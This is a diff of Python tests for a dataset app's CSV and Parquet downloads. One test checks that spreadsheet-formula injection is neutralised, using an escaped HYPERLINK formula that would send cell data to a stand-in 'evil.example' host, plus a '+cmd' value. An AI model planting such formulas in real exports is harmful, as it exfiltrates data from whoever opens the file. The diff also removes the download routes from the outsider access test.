@@ -100,13 +100,17 @@ def test_kept_rows_download_as_csv_and_parquet(client_for, owner, frozen) -> Non
     client = client_for(owner)
     rows = list(
         csv.DictReader(
-            io.StringIO(_body(client.get(reverse("datasets:kept_csv", args=[frozen.pk]))).decode("utf-8-sig"))
+            io.StringIO(
+                _body(client.get(reverse("datasets:version_file", args=[frozen.pk, "kept.csv"]))).decode(
+                    "utf-8-sig"
+                )
+            )
         )
     )
     assert len(rows) == 60
     assert rows[0]["prompt"] == "My invoice number 0 does not work, please help"
     assert rows[0]["target"] == "billing"
-    response = client.get(reverse("datasets:kept_parquet", args=[frozen.pk]))
+    response = client.get(reverse("datasets:version_file", args=[frozen.pk, "kept.parquet"]))
     content = _body(response)
     assert len(content) == int(response["Content-Length"])
     assert pq.read_table(io.BytesIO(content)).num_rows == 60
@@ -128,13 +132,15 @@ def test_what_looks_like_a_formula_is_none_in_what_a_spreadsheet_opens(
     client = client_for(owner)
 
     def cells(name: str) -> set[str]:
-        text = _body(client.get(reverse(f"datasets:{name}", args=[version.pk]))).decode("utf-8-sig")
+        text = _body(client.get(reverse("datasets:version_file", args=[version.pk, name]))).decode(
+            "utf-8-sig"
+        )
         return {cell for row in csv.reader(io.StringIO(text)) for cell in row}
 
-    kept, rejected = cells("kept_csv"), cells("rejected_csv")
+    kept, rejected = cells("kept.csv"), cells("rejected.csv")
     assert {'\'=HYPERLINK("http://evil.example/?"&A1)', "-5", "'+cmd"} <= kept
     assert not any(cell.startswith(("=", "+", "@")) for cell in kept | rejected)
-    parquet = _body(client.get(reverse("datasets:kept_parquet", args=[version.pk])))
+    parquet = _body(client.get(reverse("datasets:version_file", args=[version.pk, "kept.parquet"])))
     prompts = pq.read_table(io.BytesIO(parquet))["prompt"].to_pylist()
     assert "+cmd" in [prompt[0]["content"] for prompt in prompts]
 
@@ -154,7 +160,9 @@ def test_rejected_rows_are_shown_and_downloaded_with_line_and_reason(
     assert version.rows + version.frozen.rejected == 62
     response = client.get(version.get_absolute_url(), {"version": 1, "rows": "rejected"})
     assert [row.line for row in response.context["page"]] == [62, 63]
-    text = _body(client.get(reverse("datasets:rejected_csv", args=[version.pk]))).decode("utf-8-sig")
+    text = _body(client.get(reverse("datasets:version_file", args=[version.pk, "rejected.csv"]))).decode(
+        "utf-8-sig"
+    )
     rows = list(csv.DictReader(io.StringIO(text)))
     assert [row["line"] for row in rows] == ["62", "63"]
     assert all(row["reason"] for row in rows)
@@ -171,9 +179,6 @@ def test_an_outsider_finds_nothing(client_for, outsider, frozen) -> None:
     for name, pk in [
         ("detail", frozen.dataset_id),
         ("edit", frozen.dataset_id),
-        ("kept_csv", frozen.pk),
-        ("kept_parquet", frozen.pk),
-        ("rejected_csv", frozen.pk),
     ]:
         assert client.get(reverse(f"datasets:{name}", args=[pk])).status_code == 404, name
     for name in ("delete", "archive"):
